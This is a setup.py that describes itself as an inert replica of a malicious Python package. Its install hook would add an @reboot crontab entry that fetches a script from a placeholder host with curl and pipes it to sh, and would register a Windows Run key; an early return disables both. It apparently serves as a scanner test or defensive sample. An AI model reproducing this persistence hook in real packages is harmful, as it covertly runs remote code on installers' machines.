# Replica of an sdist whose install command registers persistence: an @reboot
# crontab line that fetches and runs a script, and (on Windows) a Run key.
# Inert: PostInstall.run() returns before touching anything, the command
# addresses example.invalid, and the Windows part runs only on Windows.
import subprocess

from setuptools import setup
from setuptools.command.install import install

CRON = '(crontab -l; echo "@reboot curl -s https://example.invalid/r.sh | sh") | crontab -'


class PostInstall(install):
    def run(self):
        install.run(self)
        return  # replica: everything below is never reached
        subprocess.call(CRON, shell=True)
        from persist_sdist import _autostart
        _autostart.register_windows()


setup(
    name="persist_sdist",
    version="0.1",
    packages=["persist_sdist"],
    cmdclass={"install": PostInstall},
)
